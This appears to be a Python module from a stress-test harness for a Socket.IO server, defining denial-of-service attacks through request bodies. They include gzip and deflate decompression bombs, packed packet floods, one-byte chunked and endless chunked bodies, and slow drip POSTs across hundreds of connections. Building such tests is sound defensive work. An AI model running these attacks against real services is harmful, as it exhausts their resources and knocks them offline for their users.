"""Bodies of requests that cost far more than they weigh: compressed, full of tiny packets, chunked, endless."""

from __future__ import annotations

import functools
import zlib
from collections.abc import Callable
from typing import Final

from . import wire
from .connection import Connection, Tally, Target, plain, polling, session_path
from .hostile import ask, hold
from .scene import Attack

FAMILY: Final = "bodies"
GZIP: Final = {"Content-Encoding": "gzip"}
# Where a body may be sent to.
ROUTES: Final = ("/socket.io/?EIO=4&transport=polling&sid=x", "/session", "/healthz", "/readyz", "/metrics", "/nowhere")


def posts(body: bytes, headers: dict[str, str] | None = None, *, connections: int = 1) -> Callable[[Target], Tally]:
    """The same body into polling sessions, one POST after the other in each."""

    def make(connection: Connection, number: int) -> bytes:
        return wire.request("POST", session_path(connection), headers or {}, body)

    return lambda target: ask(target, make, opener=polling, connections=connections)


def everywhere(body: bytes, headers: dict[str, str], *, connections: int = 4) -> Callable[[Target], Tally]:
    """The same body to every route in turn."""

    def make(connection: Connection, number: int) -> bytes:
        return wire.request("POST", ROUTES[number % len(ROUTES)], headers, body)

    return lambda target: ask(target, make, opener=plain, connections=connections)


@functools.cache
def bomb(deflate: bool = False) -> bytes:
    """972 KB that unpack to a gigabyte."""
    return wire.bomb(1 << 30, deflate=deflate)


def _bombs(encoding: str) -> Callable[[Target], Tally]:
    return lambda target: everywhere(bomb(encoding == "deflate"), {"Content-Encoding": encoding})(target)


def _chunked(body: bytes, size: int, headers: dict[str, str]) -> Callable[[Target], Tally]:
    return posts(wire.chunked(body, size), {"Transfer-Encoding": "chunked", **headers})


def _slow(path: str, connections: int) -> Callable[[Target], Tally]:
    head = wire.request("POST", path, {"Content-Length": "60000", "Content-Type": "text/plain"})
    return lambda target: hold(target, lambda number: head, connections=connections, drip=b"6")


def _slow_in_sessions(target: Target) -> Tally:
    """Every POST belongs to a session of its own, so that the server waits for it."""
    sids: list[str] = []

    def opener(connection: Connection) -> bool:
        began = polling(connection)
        sids.extend([connection.sid] if began else [])
        return began

    ask(Target(target.port, target.tls, min(2.0, target.seconds)), lambda *_: b"", opener=opener,
        connections=target.of(300))  # fmt: skip

    def first(number: int) -> bytes:
        path = f"{wire.PATH}polling&sid={sids[number % len(sids)] if sids else 'x'}"
        return wire.request("POST", path, {"Content-Length": "60000"})

    return hold(target, first, connections=300, drip=b"6")


def _endless(target: Target) -> Tally:
    """A chunked body without end, to a route that there is none of."""
    head = wire.request("POST", "/nowhere", {"Transfer-Encoding": "chunked"})
    return hold(target, lambda number: head + wire.many(b"fff\r\n" + b"x" * 4095 + b"\r\n", 4 << 20), connections=20)


DISCONNECTS: Final = wire.packets(b"41")
PLAIN: Final = {
    "41": b"41",
    "pong": b"3",
    "noop": b"6",
    "ack": b"43999[]",
    "unknown-event": b'42["x"]',
    "base64": b"bAA==",
    "connect": b"40",
}

ATTACKS: Final = [
    Attack(
        "gzip-packets", FAMILY, "a POST of 102 bytes that unpacks to 21 000 packets, one session",
        posts(wire.gzipped(DISCONNECTS), GZIP), proxied=True,
    ),
    Attack(
        "gzip-packets-100", FAMILY, "the same over 100 sessions",
        posts(wire.gzipped(DISCONNECTS), GZIP, connections=100), hostile=100, proxied=True,
    ),
    Attack(
        "gzip-noops", FAMILY, "65 KB of noops, packed",
        posts(wire.gzipped(wire.packets(b"6")), GZIP), proxied=True,
    ),
    Attack(
        "gzip-chunked", FAMILY, "packed and in chunks of one byte",
        _chunked(wire.gzipped(DISCONNECTS), 1, GZIP), proxied=True,
    ),
    Attack(
        "gzip-twice", FAMILY, "packed twice",
        posts(wire.gzipped(wire.gzipped(DISCONNECTS)), {"Content-Encoding": "gzip, gzip"}),
    ),
    Attack(
        "deflate-packets", FAMILY, "packed with deflate",
        posts(zlib.compress(DISCONNECTS, 9), {"Content-Encoding": "deflate"}), proxied=True,
    ),
    Attack("br-packets", FAMILY, "said to be packed with br", posts(b"\x1b\xff\xff" * 30, {"Content-Encoding": "br"})),
    Attack(
        "zstd-packets", FAMILY, "said to be packed with zstd",
        posts(b"\x28\xb5\x2f\xfd" * 30, {"Content-Encoding": "zstd"}),
    ),
    Attack("gzip-bombs", FAMILY, "972 KB that unpack to 1 GB, on every route", _bombs("gzip"), hostile=4, proxied=True,
           ready=bomb),
    Attack("deflate-bombs", FAMILY, "the same with deflate", _bombs("deflate"), hostile=4,
           ready=lambda: bomb(True)),
    *(
        Attack(f"posts-{name}", FAMILY, f"POSTs of 65 KB full of `{packet.decode()}`", posts(wire.packets(packet)),
               proxied=name == "41")
        for name, packet in PLAIN.items()
    ),
    Attack(
        "posts-41-20", FAMILY, "POSTs of 65 KB full of `41`, 20 sessions",
        posts(DISCONNECTS, connections=20), hostile=20, proxied=True,
    ),
    Attack("posts-chunks", FAMILY, "a POST in chunks of one byte", _chunked(wire.packets(b"6", 9000), 1, {})),
    Attack("posts-404", FAMILY, "65 KB to every route", everywhere(b"x" * 65_000, {}, connections=20), hostile=20),
    Attack("posts-endless", FAMILY, "chunked bodies without end to no route", _endless, hostile=20),
    Attack("slow-bodies", FAMILY, "500 bodies that drip, to /session", _slow("/session", 500), hostile=500,
           proxied=True),
    Attack("slow-posts", FAMILY, "300 POSTs of polling sessions that drip", _slow_in_sessions, hostile=300),
]  # fmt: skip
